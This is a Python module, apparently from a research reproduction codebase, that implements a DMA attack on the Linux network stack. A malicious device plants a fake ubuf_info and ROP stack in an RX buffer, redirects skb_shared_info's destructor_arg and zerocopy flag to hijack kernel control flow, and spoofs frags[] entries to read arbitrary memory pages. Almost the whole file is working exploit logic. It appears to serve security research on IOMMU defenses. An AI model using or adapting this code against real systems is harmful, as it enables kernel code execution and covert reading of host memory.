"""The skb_shared_info hijack (section 5.1, Figure 4).

Given a write window to an RX buffer and the buffer's KVA, the device:

(a/b) plants a fake ``ubuf_info`` + poisoned ROP stack inside the
      buffer's payload area,
(c)   points ``destructor_arg`` at the fake ubuf and sets the zerocopy
      bit in ``tx_flags`` so the release path consults it,
(d)   waits: "When the sk_buff is released, the callback is invoked."

Offsets come from public kernel-build knowledge: the shared info sits
at ``SKB_DATA_ALIGN(buf_size)`` and its field offsets are fixed by the
struct layout (unless ``__randomize_layout`` is enabled -- a defense
ablated separately).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.attacks.payload import build_attack_blob
from repro.core.attacks.window import BufferWriteWindow
from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset

#: Where in the buffer's payload area the fake ubuf_info lands --
#: past the 16-byte wire header, attacker's choice.
DEFAULT_UBUF_OFFSET = 64

_TX_FLAGS_OFF = SKB_SHARED_INFO.field("tx_flags").offset
_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset
_NR_FRAGS_OFF = SKB_SHARED_INFO.field("nr_frags").offset


@dataclass(frozen=True)
class HijackPlan:
    """Byte-level plan for one buffer: what to write where."""

    ubuf_offset: int          # offset of the fake ubuf within the buffer
    shared_info_offset: int   # offset of skb_shared_info within the buffer
    ubuf_kva: int             # attribute 1: the KVA the chain needs


def plan_hijack(buffer_kva: int, buf_size: int, *,
                ubuf_offset: int = DEFAULT_UBUF_OFFSET) -> HijackPlan:
    """Compute the plan given the recovered buffer KVA (attribute 1)."""
    return HijackPlan(
        ubuf_offset=ubuf_offset,
        shared_info_offset=skb_shared_info_offset(buf_size),
        ubuf_kva=buffer_kva + ubuf_offset)


def execute_hijack(window: BufferWriteWindow, plan: HijackPlan) -> str:
    """Perform steps (b)+(c) of Figure 4 through *window*.

    Every write goes through the IOMMU by whatever Figure-7 path the
    window can find per byte range. Returns the paths used.
    """
    blob = build_attack_blob(window.device.knowledge)
    window.write(plan.ubuf_offset, blob)
    base = plan.shared_info_offset
    window.write(base + _TX_FLAGS_OFF, bytes([SKBTX_DEV_ZEROCOPY]))
    window.write_u64(base + _DESTRUCTOR_ARG_OFF, plan.ubuf_kva)
    return "+".join(sorted(window.paths_used))


def spoof_frags(window: BufferWriteWindow, buf_size: int,
                entries: list[tuple[int, int, int]]) -> None:
    """Overwrite frags[] with arbitrary (struct_page_ptr, offset, size).

    The surveillance primitive of section 5.5: on a forwarding host the
    driver will dma_map each spoofed page for READ when the skb is
    transmitted, giving the device read access to any page it names.
    """
    base = skb_shared_info_offset(buf_size)
    for i, (page_ptr, offset, size) in enumerate(entries):
        field_off = SKB_SHARED_INFO.field(f"frags[{i}].page").offset
        window.write_u64(base + field_off, page_ptr)
        window.write(base + field_off + 8,
                     offset.to_bytes(4, "little")
                     + size.to_bytes(4, "little"))
    window.write(base + _NR_FRAGS_OFF, bytes([len(entries)]))


def clear_frags(window: BufferWriteWindow, buf_size: int) -> None:
    """Undo a frags spoof before TX completion (stability, section 5.5)."""
    window.write(skb_shared_info_offset(buf_size) + _NR_FRAGS_OFF,
                 bytes([0]))
